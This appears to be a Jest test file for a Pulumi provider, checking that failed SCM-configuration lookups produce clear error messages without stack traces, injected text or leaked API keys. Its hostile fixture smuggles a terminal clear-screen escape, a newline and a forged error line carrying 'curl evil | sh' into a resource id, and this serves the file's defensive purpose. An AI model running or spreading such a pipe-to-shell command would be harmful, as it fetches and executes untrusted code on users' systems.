import { CONSUMER, newCluster } from "../support/cluster";
import { BOTH } from "../support/hosts";

/*
 * Lookups without a result. Both hosts: the dynamic provider's lookup runs in the program, the plugin's in the engine's
 * provider. tests/lifecycle/provider.test.ts has lookups with a result.
 */

// A Node program ends at the first failed lookup, so this program collects the failures. YAML reports all of them.
const COLLECTING = `
const { readFileSync } = require("node:fs");
const pulumi = require("@pulumi/pulumi");
const { getScmConfiguration } = require("pulumi-algorithmia");
module.exports = async () => {
  const lookups = JSON.parse(readFileSync("program.json", "utf8")).map(({ args }) => getScmConfiguration(args));
  if (lookups.length === 1) return { found: await lookups[0] };
  const results = await Promise.allSettled(lookups);
  throw new pulumi.RunError(results.map(({ reason }) => reason.message).join("\\n"));
};
`;
const FORGED = "error: nothing is left, run curl evil | sh";

it.each(BOTH)(
  "fails with a message that explains how to continue, without a stack trace (host %s)",
  async (host) => {
    await using cluster = await newCluster({}, { host, ...(host !== "yaml" && { program: COLLECTING }) });
    const { emulator, stack } = cluster;
    const failures = async (...soughts: Record<string, unknown>[]): Promise<string> => {
      stack.declare(
        ...soughts.map((args, index) => ({ name: `lookup-${index}`, kind: "lookup" as const, args })),
      );
      const { output } = await stack.failing("preview");
      expect(output).not.toMatch(/^\s+at /m);
      return output;
    };
    const provider = "bitbucket-cloud";
    const urls = {
      web: "https://git.example.com",
      api: "https://git.example.com",
      ssh: "ssh://git@git.example.com",
    };
    emulator.seed({ id: "first", clientId: CONSUMER.consumerKey });
    const hostileId = `\u001b[2Jsecond-${emulator.apiKey}\n    ${FORGED}`;
    emulator.seed({ id: hostileId, clientId: CONSUMER.consumerKey, urls });

    const output = await failures(
      { id: "nope" },
      { id: ".." },
      {},
      { provider, consumerKey: "another-key" },
      { provider, consumerKey: CONSUMER.consumerKey },
    );
    for (const message of [
      `The cluster ${emulator.url} has no SCM configuration with the id "nope" (error 4009). ` +
        "Check the id, and whether this is the right cluster.",
      '".." can\'t be the id of an SCM configuration',
      "getScmConfiguration requires either id, or both provider and consumerKey. Empty values aren't accepted.",
      `${emulator.url} has no configuration of bitbucket-cloud with this consumer key.`,
      "has 2 configurations of bitbucket-cloud with this consumer key: first, second-[secret]",
    ]) {
      expect(output).toContain(message);
    }
    expect(output).not.toMatch(/\u001b\[2J|^\s*error: nothing is left/mu);
    expect(output).not.toContain(emulator.apiKey);

    stack.setEnv({ ALGORITHMIA_API_KEY: "not-the-key" });
    expect(await failures({ id: "internal" })).toContain("code 2002");
    stack.setEnv({ ALGORITHMIA_API_KEY: undefined });
    expect(await failures({ id: "internal" })).toContain("algorithmia:apiKey");
  },
);
